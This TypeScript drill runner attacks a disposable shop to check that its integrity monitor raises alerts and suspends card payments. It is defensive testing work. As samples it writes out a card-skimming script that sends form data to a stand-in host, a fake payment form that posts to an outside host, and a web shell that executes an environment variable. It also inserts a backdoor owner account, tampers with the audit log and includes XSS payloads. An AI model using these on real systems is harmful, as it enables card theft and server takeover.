/**
 * `npm run drills`: attack drills of issue #5 against a throw-away shop. Each drill is done the way
 * an attacker would (a file edited on disk, a row written straight into the database, the page a
 * buyer gets rewritten on its way), then the runner waits for an alert and checks whether card
 * payments were suspended, restores everything and goes on. It prints a table and exits 1 if a drill
 * was not detected or a critical one did not suspend card payments.
 *
 * The shop runs from this checkout's `src/` (through tsx) with integrity on (file events, a 30 s
 * re-hash), a 1 s settings check and the external monitor walking every 8 s
 * (`DRILL_MONITOR_INTERVAL_SECONDS`) through a proxy that plays the compromised CDN. Files are edited in place and restored byte for byte (also on Ctrl-C).
 */
import { existsSync, mkdtempSync, readFileSync, rmSync, unlinkSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startPsp } from '../psp/server.js';
import { loadConfig } from '../src/app/config.js';
import { startShop, type RunningShop } from '../src/app/main.js';
import { nowIso } from '../src/db/index.js';
import { createMonitor, type MonitorHandle } from '../src/integrity/monitor/loop.js';
import { newId } from '../src/shared/ids.js';
import { freePort } from '../test/helpers/shop.js';
import { startTamperProxy } from '../test/helpers/tamper-proxy.js';
import { signedInStaff } from '../test/helpers/admin.js';
import { Client, guestForm } from '../test/helpers/browser-client.js';

const ROOT = join(import.meta.dirname, '..');
const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
/** A walk takes 4–8 s on a small machine: the interval must hold one for "≤ 2 intervals" to mean something. */
const MONITOR_INTERVAL = Number(process.env.DRILL_MONITOR_INTERVAL_SECONDS ?? 8);
/** Issue #5: on-server changes within 5 s, monitor-visible ones within two monitor intervals. */
const SERVER_LIMIT_S = 5;

interface Drill {
  id: string;
  title: string;
  /** Seen by the external monitor (≤ 2 intervals plus a walk) or on the server (≤ 5 s). */
  via: 'server' | 'monitor';
  critical: boolean;
  attack(): Promise<void> | void;
  restore(): Promise<void> | void;
}

interface Row {
  drill: string;
  detected: boolean;
  seconds: number | null;
  limit: number;
  kind: string;
  suspended: boolean;
  ok: boolean;
}

// --- Files edited in place, always restored -----------------------------------------------------

const originals = new Map<string, Buffer | null>();
function editFile(rel: string, edit: (text: string) => string): void {
  const file = join(ROOT, rel);
  if (!originals.has(file)) originals.set(file, existsSync(file) ? readFileSync(file) : null);
  const before = existsSync(file) ? readFileSync(file, 'utf8') : '';
  const after = edit(before);
  if (after === before) throw new Error(`drill edit changed nothing in ${rel}`);
  writeFileSync(file, after);
}
function restoreFiles(): void {
  for (const [file, body] of originals) {
    if (body === null) {
      if (existsSync(file)) unlinkSync(file);
    } else writeFileSync(file, body);
  }
  originals.clear();
}
process.on('exit', restoreFiles);
for (const sig of ['SIGINT', 'SIGTERM'] as const) {
  process.on(sig, () => {
    restoreFiles();
    process.exit(130);
  });
}

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

async function main(): Promise<number> {
  if (!existsSync(CHROMIUM)) {
    console.error(`no Chromium at ${CHROMIUM} (set CHROMIUM_PATH)`);
    return 2;
  }
  const dataDir = mkdtempSync(join(tmpdir(), 'mamori-drills-'));
  const secrets = { cookieSecret: `drills-${newId('sec')}-0123456789abcdef`, pspApiKey: 'sk_sandbox_drills_0123456789abcdef', pspWebhookSecret: 'whsec_drills_0123456789abcdef' };
  const psp = await startPsp({ host: '127.0.0.1', port: 0, dataDir, apiKey: secrets.pspApiKey, webhookSecret: secrets.pspWebhookSecret, logLevel: 'silent' });
  const port = await freePort();
  const config = loadConfig(
    {
      NODE_ENV: 'development', LOG_LEVEL: 'silent', MAMORI_INTEGRITY: 'on', MAMORI_INTEGRITY_REHASH_SECONDS: '30', MAMORI_SETTINGS_CHECK_SECONDS: '1',
      MAMORI_TRIPWIRE_SUSPEND_SOURCES: '1', MONITOR: '0', CARD_ATTEMPTS_PER_IP: '100000',
    },
    { port, host: '127.0.0.1', publicUrl: `http://127.0.0.1:${port}`, dataDir, secrets, psp: { port: 0, publicUrl: psp.publicUrl, apiUrl: psp.url }, workers: true },
  );
  console.log('Starting a throw-away shop (integrity on, file watcher on this checkout)…');
  const shop: RunningShop = await startShop(config);
  const services = shop.services;
  const db = services.handle.db;
  const proxy = await startTamperProxy(shop.url);
  const lookalike: Server = createServer((_q, r) => r.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end('<!doctype html><title>決済</title><form method="post"><input name="cardnumber" autocomplete="cc-number"></form>'));
  await new Promise<void>((r) => lookalike.listen(0, '127.0.0.1', r));
  const la = lookalike.address();
  const lookalikeUrl = `http://127.0.0.1:${typeof la === 'object' && la ? la.port : 0}`;
  let monitor: MonitorHandle | null = null;
  const rows: Row[] = [];
  const inertRows: { drill: string; inert: boolean }[] = [];
  try {
    // The monitor's baseline: its first walk, approved as a security user would.
    monitor = await createMonitor({ shopUrl: proxy.url, token: services.monitorToken, intervalSeconds: MONITOR_INTERVAL, chromiumPath: CHROMIUM, productPath: '/products/fukamushi-sencha' });
    const first = await monitor.runOnce();
    if (!first.result || first.observation.error) throw new Error(`the monitor's first walk failed: ${first.observation.error ?? first.postError ?? ''}`);
    await services.monitor.approve(first.result.runId, 'drills', 'baseline of the drill shop');
    const second = await monitor.runOnce();
    if (second.result?.outcome !== 'clean') throw new Error(`the walk after approval is not clean: ${JSON.stringify(second.result?.differences)}`);
    monitor.start();

    const reset = async () => {
      proxy.tamper = {};
      restoreFiles();
      await sleep(1500); // the watcher sees the files back
      for (let i = 0; i < 3; i++) {
        for (const a of await services.alerts.listOpen(500)) await services.alerts.resolve(a.id, 'drills');
        await services.killSwitch.set('enabled', 'drills', 'drill restored');
        await sleep(MONITOR_INTERVAL * 1000 + 500);
        if ((await services.alerts.listOpen()).length === 0 && !(await services.killSwitch.isSuspended())) return;
      }
    };
    await reset();

    const inject = (path: string, what: string, where = '</head>') => (p: string, html: string) => (p === path ? html.replace(where, `${what}${where}`) : html);
    const FAKE_FORM = (action: string) => `<!doctype html><html lang="ja"><head><meta charset="utf-8"><title>お支払い</title></head><body><main><h1>お支払い情報の入力</h1><p>決済に失敗しました。もう一度カード情報を入力してください。</p><form method="post" action="${action}"><label>カード番号<input name="card_number" autocomplete="cc-number"></label><label>有効期限<input name="exp" autocomplete="cc-exp"></label><label>セキュリティコード<input name="cvc" autocomplete="cc-csc"></label><button>支払う</button></form></main></body></html>`;
    let shellFile = '';
    const drills: Drill[] = [
      { id: '1', title: '<script src> to an outside host added to the checkout template (file)', via: 'server', critical: true,
        attack: () => editFile('src/checkout/views.tsx', (t) => t.replace('<form method="post" action="/checkout/confirm" novalidate>', '<script src="https://cdn.jquery-cdn.example/jquery.min.js"></script><form method="post" action="/checkout/confirm" novalidate>')), restore: () => undefined },
      { id: '1m', title: '<script src> to an outside host on the checkout page as buyers get it (monitor)', via: 'monitor', critical: true,
        attack: () => void (proxy.tamper = { html: inject('/checkout', '<script src="https://cdn.jquery-cdn.example/jquery.min.js"></script>') }), restore: () => undefined },
      { id: '2', title: 'inline skimmer added to the payment step template (file)', via: 'server', critical: true,
        attack: () => editFile('src/checkout/views.tsx', (t) => t.replace('<form method="post" action="/checkout/place">', '<script>{"document.addEventListener(\'submit\',e=>navigator.sendBeacon(\'https://x.example/c\',new FormData(e.target)))"}</script><form method="post" action="/checkout/place">')), restore: () => undefined },
      { id: '2m', title: 'inline skimmer on the confirmation page as buyers get it (monitor)', via: 'monitor', critical: true,
        attack: () => void (proxy.tamper = { html: inject('/checkout/confirm', '<script>document.addEventListener("submit",e=>navigator.sendBeacon("https://x.example/c",new FormData(e.target)))</script>', '</body>') }), restore: () => undefined },
      { id: '3a', title: 'fake card form before the payment step, posting to the shop (monitor)', via: 'monitor', critical: true,
        attack: () => void (proxy.tamper = { location: (p, l) => (p === '/checkout/place' ? '/checkout/payment' : l), serve: (p) => (p === '/checkout/payment' ? { status: 200, type: 'text/html; charset=utf-8', body: FAKE_FORM('/checkout/payment') } : null) }), restore: () => undefined },
      { id: '3b', title: 'fake card form before the payment step, posting to an outside host (monitor)', via: 'monitor', critical: true,
        attack: () => void (proxy.tamper = { location: (p, l) => (p === '/checkout/place' ? '/checkout/payment' : l), serve: (p) => (p === '/checkout/payment' ? { status: 200, type: 'text/html; charset=utf-8', body: FAKE_FORM('https://pay-secure.example/collect') } : null) }), restore: () => undefined },
      { id: '4a', title: 'provider redirect target changed in code (file)', via: 'server', critical: true,
        attack: () => editFile('src/payments/providers/sandbox.ts', (t) => `${t}\n// redirect: https://psp-sandbox.example\n`), restore: () => undefined },
      { id: '4b', title: 'payment settings changed in the database, outside the audited path', via: 'server', critical: true,
        attack: async () => {
          const row = await db.selectFrom('settings').select(['key', 'value']).where('key', '=', 'payments').executeTakeFirst();
          const value = JSON.stringify({ ...(row ? (JSON.parse(row.value) as object) : {}), card: true, bankTransfer: false, cod: false });
          if (row) await db.updateTable('settings').set({ value, updated_at: nowIso() }).where('key', '=', 'payments').execute();
          else await db.insertInto('settings').values({ key: 'payments', value, updated_at: nowIso() }).execute();
          restoreSettings = async () => {
            if (row) await db.updateTable('settings').set({ value: row.value, updated_at: nowIso() }).where('key', '=', 'payments').execute();
            else await db.deleteFrom('settings').where('key', '=', 'payments').execute();
          };
        },
        restore: async () => {
          await restoreSettings?.();
          restoreSettings = null;
        } },
      { id: '4m', title: 'provider redirect going to a look-alike origin as buyers get it (monitor)', via: 'monitor', critical: true,
        attack: () => void (proxy.tamper = { location: (p, l) => (p === '/checkout/place' ? l.replace(new URL(psp.publicUrl).origin, lookalikeUrl) : l) }), restore: () => undefined },
      { id: '5', title: 'static JavaScript served on checkout modified', via: 'server', critical: true,
        attack: () => editFile('src/web/static/js/shop.js', (t) => `${t}\n;(function(){var f=document.forms;})();\n`), restore: () => undefined },
      { id: '6', title: 'payment code modified on disk', via: 'server', critical: true,
        attack: () => editFile('src/payments/service.ts', (t) => t.replace('export class PaymentService {', 'export class PaymentService { // copy card data\n')), restore: () => undefined },
      { id: '7', title: 'a new file (web shell) dropped into the code root', via: 'server', critical: true,
        attack: () => {
          shellFile = `src/catalog/.thumb-${Date.now()}.js`;
          editFile(shellFile, () => "import('node:child_process').then((c) => c.exec(process.env.Q ?? ''));\n");
        },
        restore: () => undefined },
      { id: '8', title: 'CSP loosened in the code that sends it (file)', via: 'server', critical: true,
        attack: () => editFile('src/web/security.ts', (t) => t.replace('"script-src \'self\'"', '"script-src \'self\' \'unsafe-inline\' https:"')), restore: () => undefined },
      { id: '8m', title: 'CSP removed from the checkout page as buyers get it (monitor)', via: 'monitor', critical: true,
        attack: () => void (proxy.tamper = { dropHeaders: (p) => (p === '/checkout' ? ['content-security-policy'] : []) }), restore: () => undefined },
      { id: '10', title: 'a staff account inserted directly into the database', via: 'server', critical: true,
        attack: async () => {
          const now = nowIso();
          await db.insertInto('staff').values({
            id: newId('stf'), email: 'backdoor@example.jp', email_norm: 'backdoor@example.jp', name: 'support', role: 'owner', status: 'active', password_hash: 'x', totp_secret: null,
            totp_enabled_at: null, recovery_codes: '[]', failed_attempts: 0, locked_until: null, setup_token_hash: null, setup_expires_at: null, created_at: now, updated_at: now,
          }).execute();
        },
        restore: async () => {
          await db.deleteFrom('staff').where('email_norm', '=', 'backdoor@example.jp').execute();
        } },
      { id: '11', title: 'the audit log edited directly in the database', via: 'server', critical: true,
        attack: async () => {
          // An attacker hides what they did: the newest entry's target is rewritten (its hash no longer matches).
          const last = await db.selectFrom('audit_log').select(['seq', 'target']).orderBy('seq', 'desc').limit(1).executeTakeFirst();
          if (!last) {
            await services.audit.append({ actor: 'system:drill', action: 'drill.seed', target: 'x', detail: null });
            return;
          }
          auditEdit = { seq: last.seq, target: last.target };
          await db.updateTable('audit_log').set({ target: 'nothing-to-see' }).where('seq', '=', last.seq).execute();
        },
        restore: async () => {
          if (auditEdit) await db.updateTable('audit_log').set({ target: auditEdit.target }).where('seq', '=', auditEdit.seq).execute();
          auditEdit = null;
        } },
    ];
    let restoreSettings: (() => Promise<void>) | null = null;
    let auditEdit: { seq: number; target: string | null } | null = null;

    for (const d of drills) {
      const before = new Set((await services.alerts.listOpen(500)).map((a) => a.id));
      const limitS = d.via === 'server' ? SERVER_LIMIT_S : 2 * MONITOR_INTERVAL;
      const limitMs = (limitS + 15) * 1000; // wait longer than the limit: a late detection is reported as such
      const t0 = Date.now();
      await d.attack();
      let found: { kind: string; severity: string } | null = null;
      while (!found && Date.now() - t0 < limitMs) {
        await sleep(100);
        const fresh = (await services.alerts.listOpen(500)).filter((a) => !before.has(a.id));
        const pick = fresh.find((a) => a.severity === 'critical') ?? fresh[0];
        if (pick) found = { kind: pick.kind, severity: pick.severity };
      }
      const seconds = found ? (Date.now() - t0) / 1000 : null;
      if (found) await sleep(300);
      const suspended = await services.killSwitch.isSuspended();
      const ok = Boolean(found) && seconds !== null && seconds <= limitS && (!d.critical || suspended);
      rows.push({ drill: `${d.id}. ${d.title}`, detected: Boolean(found), seconds, limit: limitS, kind: found?.kind ?? '', suspended, ok });
      console.log(`${ok ? 'ok  ' : 'FAIL'} ${d.id}: ${found ? `${found.kind} after ${seconds?.toFixed(1)} s (limit ${limitS} s)` : 'not detected'}${suspended ? ', card payments suspended' : ''}`);
      await d.restore();
      await reset();
    }

    // Drills 9 and 12 plant script that must stay inert: the check is what the pages contain.
    const PAYLOAD = '<script>alert(document.domain)</script><img src=x onerror=alert(1)><svg onload=alert(1)>';
    const live = (html: string) => /<script>alert|<img[^>]*\sonerror=|<svg[^>]*\sonload=|href="javascript:/i.test(html);
    {
      const product = await db.selectFrom('products').select(['id', 'description_md']).where('slug', '=', 'fukamushi-sencha').executeTakeFirstOrThrow();
      await db.updateTable('products').set({ description_md: `${product.description_md}\n\n${PAYLOAD}\n\n[クーポン](javascript:alert(1))` }).where('id', '=', product.id).execute();
      await sleep(2500); // the shared page cache (2 s)
      const html = await (await fetch(`${shop.url}/products/fukamushi-sencha`)).text();
      const inert = !live(html) && !html.includes(PAYLOAD);
      await db.updateTable('products').set({ description_md: product.description_md }).where('id', '=', product.id).execute();
      inertRows.push({ drill: '12. a product description carrying script (written into the database)', inert });
      console.log(`${inert ? 'ok  ' : 'FAIL'} 12: ${inert ? 'rendered inert' : 'SCRIPT LIVE ON THE PRODUCT PAGE'}`);
    }
    {
      const buyer = new Client(shop.url);
      await buyer.get('/products/fukamushi-sencha');
      const variant = /name="variant_id" value="(var_[0-9A-Z]{16})"(?![^>]*disabled)/.exec(buyer.last!.html)?.[1] ?? '';
      await buyer.post('/cart/add', { variant_id: variant, quantity: '1' });
      await buyer.get('/checkout');
      await buyer.post('/checkout/confirm', guestForm({ orderer_name: `山田${PAYLOAD}`.slice(0, 60), orderer_address2: PAYLOAD.slice(0, 100), note: PAYLOAD }));
      const done = await buyer.request('/checkout/place', { form: buyer.hiddenFields('/checkout/place') });
      const orderId = /\/orders\/(ord_[0-9A-Z]{16})/.exec(done.url)?.[1];
      const staff = new Client(shop.url);
      await signedInStaff(services, staff, 'staff', 'drill-staff@example.jp');
      const page = orderId ? await staff.get(`/admin/orders/${orderId}`) : null;
      const inert = Boolean(page && page.status === 200 && page.html.includes('&lt;script') && !live(page.html));
      inertRows.push({ drill: '9. script payload typed into checkout fields, viewed in the admin', inert });
      console.log(`${inert ? 'ok  ' : 'FAIL'} 9: ${inert ? 'shown as text, inert' : 'NOT INERT (or the order page did not open)'}`);
    }
  } finally {
    restoreFiles();
    await monitor?.stop();
    lookalike.closeAllConnections();
    lookalike.close();
    await proxy.close();
    await shop.stop();
    await psp.close();
    rmSync(dataDir, { recursive: true, force: true });
  }

  const line = (cells: string[]) => `| ${cells.join(' | ')} |`;
  console.log('');
  console.log(line(['Drill', 'Detected', 'Seconds to alert (limit)', 'Alert', 'Card payments suspended']));
  console.log(line(['---', '---', '---', '---', '---']));
  for (const r of rows) console.log(line([r.drill, r.detected ? 'yes' : 'NO', `${r.seconds === null ? '—' : r.seconds.toFixed(1)} (${r.limit})`, r.kind || '—', r.suspended ? 'yes' : 'no']));
  for (const r of inertRows) console.log(line([r.drill, r.inert ? 'inert (shown as text, never runs)' : 'NOT INERT', '—', 'none needed', 'no (nothing to stop)']));
  const failed = [...rows.filter((r) => !r.ok), ...inertRows.filter((r) => !r.inert)];
  console.log(failed.length ? `\n${failed.length} drill(s) failed.` : `\nAll ${rows.length} attack drills were detected in time and every critical one suspended card payments; the ${inertRows.length} stored-script drills stayed inert.`);
  return failed.length ? 1 : 0;
}

main().then((code) => process.exit(code), (err: unknown) => {
  restoreFiles();
  console.error(err);
  process.exit(1);
});
